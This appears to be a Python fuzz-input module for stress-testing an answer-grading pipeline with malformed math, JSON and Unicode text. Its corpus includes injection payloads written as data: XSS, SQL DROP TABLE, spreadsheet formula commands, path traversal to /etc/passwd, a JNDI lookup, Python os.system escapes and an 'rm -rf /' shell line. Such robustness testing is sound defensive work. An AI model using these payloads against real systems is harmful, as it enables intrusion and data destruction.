"""Texts that no pipeline wants to read: made by hand, bred from answers, piled up, nested, random.

`benchmarks/fuzz.py` throws them.
"""

from __future__ import annotations

import random

CORPUS = (
    "",
    " ",
    "\x00",
    "\x00\x01\x1b[2J\x1b]0;title\x07\x9b31m\r\x08\x7f",
    "\ud800",
    "7\udfff\ud83d",
    "\ufffe\uffff\U0010ffff",
    "\u202e7\u202c \u2066\u2067\u2069 \u200f\u200e\ufeff",
    "e" + "\u0301" * 400,
    "\u0e01\u0e33" * 50 + "\u1160" * 50,
    "👩\u200d👩\u200d👧\u200d👦" * 20 + "🏴\U000e0067\U000e0062\U000e007f",
    "\u2028\u2029\u0085\v\f",
    "７\u0667\u0be7½²⅒Ⅶ一",
    "İıſßŒﬁ" * 20,
    "</think>",
    "</think></think>7",
    "<think><think>7</think></think>",
    "<think>7",
    "7<think>",
    "< think >7</ think >",
    "<|im_end|><eos></s><pad><unk>",
    "{" * 500,
    "}" * 500,
    "{}" * 500,
    "\\boxed",
    "\\boxed{",
    "\\boxed{}",
    "\\boxed{" * 200 + "7" + "}" * 200,
    "\\boxed{7" + "{" * 999,
    "\\boxed{\\}}",
    "\\boxed{\\boxed{\\boxed{7",
    "$" * 999,
    "$$7$$ $7$ \\(7\\) \\[7\\] \\[",
    "\\" * 999,
    "\\frac{1}{0} \\boxed{\\frac{0}{0}}",
    "\\boxed{\\frac{1}{\\frac{1}{\\frac{1}{0}}}}",
    "\\boxed{\\infty - \\infty}",
    "\\boxed{\\sqrt{-1}}\\boxed{i^i}\\boxed{\\log 0}",
    "\\boxed{\\input{/etc/passwd}}\\write18{id}\\immediate\\openout\\csname x\\endcsname",
    "\\def\\a{\\a\\a}\\a",
    "\\boxed{" + "\\frac{1}{1+" * 6 + "x" + "}" * 6 + "}",
    "\\boxed{\\begin{pmatrix}" + "1&2\\\\" * 9 + "\\end{pmatrix}}",
    "\\boxed{" + ",".join(map(str, range(40))) + "}",
    "\\boxed{" + "1+" * 40 + "1}",
    "\\boxed{__import__('os').system('touch /tmp/owned')}",
    "answer: __import__('os').popen('id').read()",
    "The final answer is (1).__class__.__bases__[0].__subclasses__(). I hope it is correct.",
    "answer: 1+1*(2)**3-(4)/5^6",
    "answer: 7(7)(7)",
    "\\boxed{lambda: exec('1')}",
    "\\boxed{\\operatorname{eval}(1)} \\boxed{S.One.__class__}",
    "####",
    "#### -",
    "#### " + "9" * 5000,
    "#### 1e999",
    "#### 1e-999 / 0",
    "9" * 1200 + "/" + "9" * 1200,
    "1/0",
    "-0",
    "nan inf -inf NaN Infinity",
    "0x7 0b1 1_000 1,23,45 1.2.3.4 ٧",
    "The answer is (A) (B) (C) (D) or is it Z?",
    "{" + '"a":{' * 900 + "}" * 901,
    "[" * 100_000,
    '{"rationale": "", "action": {"type": "click", "name": "' + "buy " * 2000 + '"}}',
    '{"rationale": 1, "action": []}',
    '{"rationale": "", "action": {"type": ["click"], "name": {"$ref": "#"}}}',
    '{"rationale": "", "action": {"type": "click", "name": "\\ud800"}}',
    '{"rationale": "", "action": {"type": "click", "type": "terminate"}}',
    '{"rationale": "", "n": ' + "1" * 5000 + "}",
    '{"rationale": "", "n": 1e999, "m": NaN}',
    '{"__proto__": {"x": 1}, "constructor": {"prototype": {}}}',
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 1</script>",
    "</pre></td></table></main><img src=x onerror='window.hacked = 1'>",
    '"><svg/onload=window.hacked=1>',
    "<!--<script>",
    "]]><![CDATA[<a href=javascript:alert(1)>",
    "<style>@import url(//example.org)</style><base href=//example.org>",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe><meta http-equiv=refresh content=0>",
    "&lt;script&gt; &#60;script&#62; &amp;lt; &;",
    "[x](javascript:alert(1)) ![x](https://example.org/?q=) | a | b |\n| --- | --- |\n`<b>` **7** # 7",
    "[red]7[/red] [/] [link=https://example.org]7[/link] [bold",
    "%s%s%n {0.__class__} {} ${jndi:ldap://example.org} #{7*7} {{7*7}} <%= 7*7 %>",
    "'; DROP TABLE rollouts; --",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7\t-7\t=7",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/passwd\x00.png",
    "file:///etc/passwd http://169.254.169.254/latest/meta-data/",
    "CON NUL AUX com1.txt .. . ~ $HOME `id` $(id) ; rm -rf / #",
    "\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
)

BOMBS = (
    r"\boxed{9^{9^{9^9}}}",
    r"\boxed{(10^{9})!}",
    r"\boxed{\sum_{k=1}^{10^{12}} \frac{1}{k^2 + \sin k}}",
    r"\boxed{" + r"\sqrt{2+" * 150 + "x" + "}" * 150 + "}",
    r"\boxed{" + r"\frac{1}{1+" * 40 + "x" + "}" * 40 + "}",
    r"\boxed{" + "1+" * 2000 + "1}",
    r"\boxed{\int_0^1 x^{x^{x^x}} dx}",
    r"\boxed{2^{2^{100}} \bmod 7}",
    r"\boxed{" + "(" * 1500 + "1" + ")" * 1500 + "}",
    "answer: " + "9**" * 12 + "9",
    "answer" + " " * 4000 + "=",
)
"""What keeps SymPy, or a regular expression that backtracks, busy until it is killed."""

UNITS = ("1", "1,", "1,234 ", "(", "{", "-$ ", "1/", "answer:", " ", "A ", r"\boxed{", "<think>", "</think>", '{"a":',
         "[", "####", "1e", "\\", "\u0301", "\x00", "<b>", "wait,", "\u202e", "😀", "$1$ and ", "x=")  # fmt: skip
"""Repeated up to a million characters."""

PIECES = (
    "<think>", "</think>", "</think>", "\\boxed{", "\\boxed{7}", "{", "}", "{", "}", "(", ")", "[", "]", "$", "$$",
    "\\(", "\\)", "\\frac{", "\\frac12", "\\sqrt{", "\\text{", "\\pm", "\\cdot", "\\times", "\\left(", "\\right)",
    "\\begin{cases}", "\\end{cases}", "\\infty", "\\pi", "\\in", "\\cup", "\\%", "%", "^", "^{", "_", "_{", "!", "=",
    "<", ">", "\\leq", "&", "\\\\", "\\,", "####", "answer:", "The final answer is", "I hope it is correct.", "Answer",
    "0", "7", "7", "57", "-7", "3.14", "1,000", "1e9", "9" * 40, ".5", "1/3", "x", "x=7", "y", "B", "(B)", "and", "or",
    '"', "'", "rationale", "action", "click", ":", ",", "null", "true", "\n", "\t", " ", " ", "\r\n", "\x00", "\x1b[",
    "\u202e", "\u0301", "é", "一", "😀", "\u200d", "\ufeff", "\ud800", "½", "²", "٣", "<script>", "</script>", "<!--",
    "-->", "onerror=", "&lt;", "|", "`", "*", "#", "~", "@", "wait", "let me check", "perhaps", "then 3+4=7;",
)  # fmt: skip

ANSWERS = (
    "<think>3+4=7;wait,3+4=7</think>7",
    "<think>Let $x = 3 + 4$.</think>The final answer is $\\boxed{7}$.",
    "<think>By symmetry.</think>\\boxed{\\frac{7}{3}}",
    "<think>a</think>{\"rationale\": \"r\", \"action\": {\"type\": \"click\", \"name\": \"buy now\"}}",
    "<think>b</think>Answer: (B)",
    "<think>c</think>#### 1,234.50",
    "<think>d</think>$\\{1, 2, 3\\}$ and $x \\in (0, \\pi]$",
)  # fmt: skip

GOLD = {
    "math_answer": (r"\frac{7}{3}", "7", r"\{1,2,3\}", "x=3"),
    "olympiad": ('{"final_answer": ["$69$,$84$"], "error": "1e-1"}', "7"),
    "final_number": ("7", "#### 1,234.5"),
    "choice": ("B",),
    "exact": ("7",),
    "includes": ("7",),
    "json_action": (
        '{"type": "click", "name": "buy now"}',
        '{"type": "type_and_submit", "name": "search box", "text": "red shoes"}',
    ),
}

CLICK = '{"rationale": "", "action": {"type": "click", "name": "buy"}}'

NAMES = tuple(text for text in CORPUS if text and len(text) < 120)
"""Corpus texts short enough to stand for ids, column values, run names and benchmarks."""


class Hostile:
    """A source of hostile texts: the corpus, mutants of answers, piles of pieces, noise, and repeats by the megabyte.

    Args:
        draw: whatever it makes is determined by this.
    """

    def __init__(self, draw: random.Random) -> None:
        self.draw = draw

    def text(self) -> str:
        """One completion; two halves of a surrogate pair side by side are the character that they make."""
        return self._text().encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")

    def _text(self) -> str:
        draw = self.draw
        kind = draw.random()
        if kind < 0.0005:
            return draw.choice(BOMBS)
        if kind < 0.001:
            unit = draw.choice(UNITS)
            return unit * (draw.choice((10**4, 10**5, 10**6)) // len(unit)) + self._pile(3)
        if kind < 0.15:
            return draw.choice(CORPUS)
        if kind < 0.25:
            return draw.choice(CORPUS) + draw.choice(ANSWERS) + draw.choice(CORPUS)
        if kind < 0.5:
            return self._mutant(draw.choice(ANSWERS))
        if kind < 0.85:
            return self._pile(draw.randrange(1, 30))
        if kind < 0.93:
            return self._nested(draw.randrange(1, 60))
        return self._noise(draw.randrange(1, 80))

    def name(self) -> str:
        """An id, a column's value, or the like."""
        return self.draw.choice(NAMES)

    def _pile(self, count: int) -> str:
        return "".join(self.draw.choices(PIECES, k=count))

    def _mutant(self, text: str) -> str:
        for _ in range(self.draw.randrange(1, 6)):
            a, b = sorted(self.draw.choices(range(len(text) + 1), k=2))
            text = self.draw.choice(
                (text[:a] + text[b:], text[:b] + text[a:], text[:a] + self.draw.choice(PIECES) + text[a:],
                 text[:a] + text[a:b][::-1] + text[b:], text[:a] + text[a:b].upper() + text[b:])
            )  # fmt: skip
        return text

    def _nested(self, depth: int) -> str:
        opening, closing = self.draw.choice(
            (("{", "}"), ("\\boxed{", "}"), ("\\frac{1}{", "}"), ("<think>", "</think>"), ('{"action":', "}"),
             ("[", "]"), ("\\left(", "\\right)"), ("\\sqrt{", "}"), ("2^{", "}"), ("<div>", "</div>"), ("\\text{", "}"))
        )  # fmt: skip
        return opening * depth + self._pile(3) + closing * max(0, depth + self.draw.randrange(-2, 3))

    def _noise(self, count: int) -> str:
        planes = ((0x20, 0x7F), (0, 0x100), (0x300, 0x370), (0x2000, 0x2070), (0xD800, 0xE000), (0, 0x110000))
        return "".join(chr(self.draw.randrange(*self.draw.choice(planes))) for _ in range(count))
